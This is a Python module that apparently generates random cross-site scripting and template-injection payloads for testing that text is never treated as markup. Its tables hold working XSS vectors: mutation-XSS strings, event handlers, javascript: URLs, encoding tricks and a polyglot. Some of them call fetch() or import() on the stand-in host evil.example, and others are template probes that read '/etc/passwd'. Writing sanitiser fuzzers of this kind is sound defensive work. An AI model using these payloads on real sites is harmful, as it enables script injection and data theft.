"""Texts that would run a script, load something or change the page if they were ever taken for markup."""

from __future__ import annotations

import urllib.parse
from collections.abc import Callable
from random import Random

__all__ = ["FORBIDDEN_HOST", "draw_payload"]

#: Where payloads try to call: a name that no server may have (RFC 2606).
FORBIDDEN_HOST = "evil.example"

_CALLS = (
    f"fetch('//{FORBIDDEN_HOST}/called')",
    f"fetch(`//{FORBIDDEN_HOST}/called`)",
    f"new Image().src='//{FORBIDDEN_HOST}/called'",
    f"import('//{FORBIDDEN_HOST}/called')",
    "alert(1)",
)
_TAGS = (
    "script img svg math iframe object embed video audio body details input select marquee a form button".split()
)
_TAGS += "style link meta base template table noscript textarea title xmp plaintext frameset isindex mark".split()
_EVENTS = "onload onerror onclick onmouseover onfocus ontoggle onstart onbegin onanimationstart onpageshow".split()
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,", "vbscript:")
_BREAKERS = (
    *(
        "",
        '"',
        "'",
        "`",
        '">',
        "'>",
        "-->",
        "--!>",
        "]]>",
        "</mark>",
        "</p>",
        "</title>",
        "</textarea>",
        "</style>",
    ),
    *(
        "</script>",
        "</template>",
        "</svg>",
        "</code></p></div>",
        "*/",
        "\\",
        "\\'",
        '\\"',
        "\n",
        "\u2028",
        "{{",
        "${",
    ),
    *(
        '" autofocus tabindex=1 ',
        "' accesskey=x ",
        "<!--",
        "<![CDATA[",
        "<?",
        "</",
        "<",
        "&",
        "&#",
        "\x00",
        "=" * 3,
    ),
)
_WHOLE = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><script>{js}</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x\">",
    '<iframe srcdoc="<script>{js}</script>">',
    "<meta http-equiv=refresh content='0;url=//" + FORBIDDEN_HOST + "/called'>",
    "<base href='//" + FORBIDDEN_HOST + "/'>",
    "<link rel=stylesheet href='//" + FORBIDDEN_HOST + "/called'>",
    "<style>@import '//"
    + FORBIDDEN_HOST
    + "/called';*{{background:url(//"
    + FORBIDDEN_HOST
    + "/called)}}</style>",
    "<img src='//" + FORBIDDEN_HOST + "/called'>",
    '{{{{constructor.constructor("{js}")()}}}}',
    "${{{js}}}",
    "<%= {js} %>",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% include '/etc/passwd' %}}",
    "\ufeff<script>{js}</script>",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<\u200bscript>{js}</script>",
    "＜script＞{js}＜/script＞",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\u202e<script>{js}</script>",
    "<sc<script>ript>{js}</sc</script>ript>",
    "<x/onclick={js}//>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={js} )"
        "//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>"
    ),
)


def draw_payload(drawing: Random) -> str:
    """Return a random text that breaks out of its context, then an element, attribute, address or trick."""
    js = drawing.choice(_CALLS)
    payload = drawing.choice(_MAKERS)(drawing, js)
    return drawing.choice(_DISGUISES)(drawing.choice(_BREAKERS) + payload, drawing)


def _element(drawing: Random, js: str) -> str:
    tag = drawing.choice(_TAGS)
    space = drawing.choice([" ", "/", "\n", "\t", "\x0c", "\xa0", " x "])
    quote = drawing.choice(["", '"', "'"])
    body = drawing.choice(["", js, f"<{tag}>"])
    close = drawing.choice([">", "/>", "", ">" + body + f"</{tag}>"])
    return f"<{tag}{space}src=x{space}{drawing.choice(_EVENTS)}={quote}{js}{quote}{close}"


def _attribute(drawing: Random, js: str) -> str:
    quote = drawing.choice(['"', "'", "", " "])
    return f"{quote} {drawing.choice(_EVENTS)}={quote}{js}{quote} style={quote}animation:x{quote} x={quote}"


def _address(drawing: Random, js: str) -> str:
    address = drawing.choice(_SCHEMES) + drawing.choice([js, f"<script>{js}</script>"])
    return drawing.choice(
        [address, f"<a href='{address}'>a</a>", f'<iframe src="{address}">', f"http://x/{address}"]
    )


def _whole(drawing: Random, js: str) -> str:
    return drawing.choice(_WHOLE).format(js=js)


def _script(drawing: Random, js: str) -> str:
    name = drawing.choice(["script", "SCRIPT", "ScRiPt", "script/x", "script\n"])
    return f"<{name}>{js}</{name}>"


_MAKERS: tuple[Callable[[Random, str], str], ...] = (_element, _attribute, _address, _whole, _script)


def _entities(text: str, drawing: Random) -> str:
    ways = ("&#{};", "&#x{:x};", "&#{:07d};", "&#x{:x}")
    return "".join(drawing.choice(ways).format(ord(each)) if each in "<>\"'&" else each for each in text)


_DISGUISES: tuple[Callable[[str, Random], str], ...] = (
    *[lambda text, _: text] * 5,
    lambda text, _: text.upper(),
    lambda text, _: urllib.parse.quote(text, errors="replace"),
    lambda text, _: urllib.parse.quote(urllib.parse.quote(text, errors="replace")),
    lambda text, _: text * 20,
    lambda text, _: "<" * 50 + text,
    lambda text, _: text.replace("<", "<\x00").replace("=", "=\x0b"),
    lambda text, _: text.encode("utf-16-le").decode("latin-1"),
    lambda text, _: "".join(each + "\u0301" if each == "<" else each for each in text),
    _entities,
    _entities,
)
